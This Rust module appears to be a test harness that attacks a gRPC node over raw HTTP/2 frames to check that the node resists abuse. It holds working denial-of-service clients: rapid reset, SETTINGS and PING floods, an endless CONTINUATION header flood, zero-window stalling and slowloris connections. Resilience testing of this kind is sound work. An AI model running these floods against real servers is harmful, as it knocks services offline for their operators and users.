//! Clients that mean no good: they speak HTTP/2 frame by frame, and read nothing.
//!
//! Frames as RFC 9113 lays them out: length, type, flags, stream, then what they carry.

use std::{
    io::{self, Read as _, Write as _},
    net::TcpStream,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::Duration,
};

use anyhow::{bail, ensure};

use super::super::kind::Kind;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Kinds of frames.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
/// Flags.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The setting SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW: [u8; 2] = [0, 4];
/// Error CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Connections that abuse at once, and those that are slow.
const CONNECTIONS: usize = 4;
const SLOW_CONNECTIONS: usize = 300;
/// Frames in one write.
const BATCH: usize = 100;
const FRAME: usize = 16_000;
/// Calls on each connection whose answers nobody takes.
const UNREAD: u32 = 500;
/// A node that takes no more for so long has stopped this client.
const STUCK: Duration = Duration::from_millis(500);
const BYTE_EVERY: Duration = Duration::from_secs(1);
/// Fewer frames are no flood.
const LEAST_FRAMES: u64 = 1_000;

#[derive(Default)]
struct Counts {
    stop: AtomicBool,
    frames: AtomicU64,
    /// Connections that the node ended, or took nothing more from.
    ended: AtomicU64,
}

pub struct Abuse {
    kind: Kind,
    counts: Arc<Counts>,
    threads: Vec<JoinHandle<()>>,
}

impl Abuse {
    /// From the network of the calling thread.
    pub fn start(kind: Kind, address: &str) -> anyhow::Result<Self> {
        let counts = Arc::new(Counts::default());
        let work: fn(&str, &Counts) -> io::Result<()> = match kind {
            Kind::SlowClients => slow,
            Kind::RapidReset => rapid_reset,
            Kind::SettingsFlood => settings_flood,
            Kind::PingFlood => ping_flood,
            Kind::HugeHeaders => huge_headers,
            Kind::ZeroWindow => zero_window,
            _ => bail!("{kind} is no abuse"),
        };
        let connections = if kind == Kind::SlowClients { 1 } else { CONNECTIONS };
        let threads = (0..connections).map(|_| {
            let (counts, address) = (counts.clone(), address.to_owned());
            thread::spawn(move || {
                while !counts.stop.load(Ordering::Relaxed) {
                    if work(&address, &counts).is_err() {
                        counts.ended.fetch_add(1, Ordering::Relaxed);
                        thread::sleep(STUCK / 10);
                    }
                }
            })
        });
        let threads = threads.collect();
        Ok(Self { kind, counts, threads })
    }

    pub fn met(&self) -> anyhow::Result<String> {
        let frames = self.counts.frames.load(Ordering::Relaxed);
        let ended = self.counts.ended.load(Ordering::Relaxed);
        match self.kind {
            Kind::SlowClients => {
                ensure!(ended > 0, "no slow client was told to go");
                Ok(format!("{ended} of {frames} slow connections were ended"))
            }
            Kind::HugeHeaders => {
                ensure!(ended > 0, "no connection was ended");
                Ok(format!("{ended} connections were ended, {frames} heads were begun"))
            }
            _ => {
                ensure!(frames > LEAST_FRAMES, "only {frames} frames were taken");
                Ok(format!("{frames} frames, {ended} connections were ended"))
            }
        }
    }
}

impl Drop for Abuse {
    fn drop(&mut self) {
        self.counts.stop.store(true, Ordering::Relaxed);
        for thread in self.threads.drain(..) {
            // One that panicked has done no harm to what is tested.
            let _ = thread.join();
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, carried: &[u8]) -> Vec<u8> {
    let mut frame = (carried.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(carried);
    frame
}

fn connect(address: &str, settings: &[u8]) -> io::Result<TcpStream> {
    let mut socket = TcpStream::connect(address)?;
    socket.set_write_timeout(Some(STUCK))?;
    socket.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat())?;
    Ok(socket)
}

/// The head of a call, as HPACK without any table: indexed names, literal values.
fn head() -> Vec<u8> {
    let mut head = vec![0x83, 0x86]; // :method POST, :scheme http
    let mut literal = |name: &[u8], value: &[u8]| {
        head.extend(name);
        head.push(value.len() as u8);
        head.extend(value);
    };
    literal(&[0x04], b"/shoal.v1.Shoal/Call");
    literal(&[0x01], b"shoal");
    literal(&[0x0f, 0x10], b"application/grpc");
    literal(b"\x00\x02te", b"trailers");
    head
}

/// A call that reads a key which holds nothing, as gRPC frames it.
fn body() -> Vec<u8> {
    let message = [&b"\x0a\x05abuse\x12\x03get"[..]].concat();
    [&[0, 0, 0, 0, message.len() as u8], &message[..]].concat()
}

/// Writes until it is told to stop or the node has had enough.
fn repeat(
    socket: &mut TcpStream,
    counts: &Counts,
    mut next: impl FnMut() -> Vec<u8>,
) -> io::Result<()> {
    while !counts.stop.load(Ordering::Relaxed) {
        let batch: Vec<u8> = (0..BATCH).flat_map(|_| next()).collect();
        socket.write_all(&batch)?;
        counts.frames.fetch_add(BATCH as u64, Ordering::Relaxed);
    }
    Ok(())
}

fn rapid_reset(address: &str, counts: &Counts) -> io::Result<()> {
    let mut socket = connect(address, &[])?;
    let mut stream = 1;
    let head = head();
    repeat(&mut socket, counts, || {
        let call = frame(HEADERS, END_HEADERS, stream, &head);
        let reset = frame(RESET, 0, stream, &CANCEL);
        stream += 2;
        [call, reset].concat()
    })
}

fn settings_flood(address: &str, counts: &Counts) -> io::Result<()> {
    let mut socket = connect(address, &[])?;
    repeat(&mut socket, counts, || frame(SETTINGS, 0, 0, &[]))
}

fn ping_flood(address: &str, counts: &Counts) -> io::Result<()> {
    let mut socket = connect(address, &[])?;
    repeat(&mut socket, counts, || frame(PING, 0, 0, b"12345678"))
}

/// A head that never ends.
fn huge_headers(address: &str, counts: &Counts) -> io::Result<()> {
    let mut socket = connect(address, &[])?;
    socket.write_all(&frame(HEADERS, 0, 1, &head()))?;
    counts.frames.fetch_add(1, Ordering::Relaxed);
    // A literal name of one letter and a value of a hundred.
    let field = [&[0x00, 0x01, b'x', 100][..], &[b'y'; 100]].concat();
    let more = field.repeat(FRAME / field.len());
    repeat(&mut socket, counts, || frame(CONTINUATION, 0, 1, &more))
}

/// Asks and lets no answer through; stays until it is told to stop.
fn zero_window(address: &str, counts: &Counts) -> io::Result<()> {
    let settings = [&INITIAL_WINDOW[..], &[0; 4]].concat();
    let mut socket = connect(address, &settings)?;
    let (head, body) = (head(), body());
    for call in 0..UNREAD {
        let stream = 2 * call + 1;
        let head = frame(HEADERS, END_HEADERS, stream, &head);
        socket.write_all(&[head, frame(DATA, END_STREAM, stream, &body)].concat())?;
        counts.frames.fetch_add(2, Ordering::Relaxed);
    }
    // It answers keep-alives no more than anything else: sooner or later it is let go.
    socket.set_read_timeout(Some(STUCK))?;
    let mut unread = [0];
    while !counts.stop.load(Ordering::Relaxed) {
        match socket.peek(&mut unread) {
            Ok(0) => return Err(io::ErrorKind::ConnectionReset.into()),
            Ok(_) => thread::sleep(STUCK / 10),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// Half a preface on many connections, then a byte each second.
fn slow(address: &str, counts: &Counts) -> io::Result<()> {
    let mut sockets = Vec::new();
    for _ in 0..SLOW_CONNECTIONS {
        let mut socket = TcpStream::connect(address)?;
        socket.set_nonblocking(true)?;
        socket.write_all(&PREFACE[..8])?;
        sockets.push(socket);
        counts.frames.fetch_add(1, Ordering::Relaxed);
    }
    while !counts.stop.load(Ordering::Relaxed) && !sockets.is_empty() {
        thread::sleep(BYTE_EVERY);
        let before = sockets.len();
        sockets.retain_mut(lives);
        counts.ended.fetch_add((before - sockets.len()) as u64, Ordering::Relaxed);
        for socket in &mut sockets {
            // One that has just been ended is seen by the next look.
            let _ = socket.write(&PREFACE[8..9]);
        }
    }
    Ok(())
}

fn lives(socket: &mut TcpStream) -> bool {
    match socket.read(&mut [0; 64]) {
        Ok(0) => false,
        Ok(_) => true,
        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
    }
}
